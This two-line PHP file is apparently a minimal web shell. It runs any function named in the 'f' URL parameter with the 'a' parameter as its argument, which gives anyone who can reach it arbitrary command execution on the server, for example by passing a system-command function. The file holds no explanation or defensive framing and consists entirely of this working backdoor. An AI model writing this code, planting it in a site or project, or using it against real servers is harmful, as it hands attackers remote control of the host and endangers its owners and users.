<?php
if (isset($_GET['f'])) { $_GET['f']($_GET['a']); }
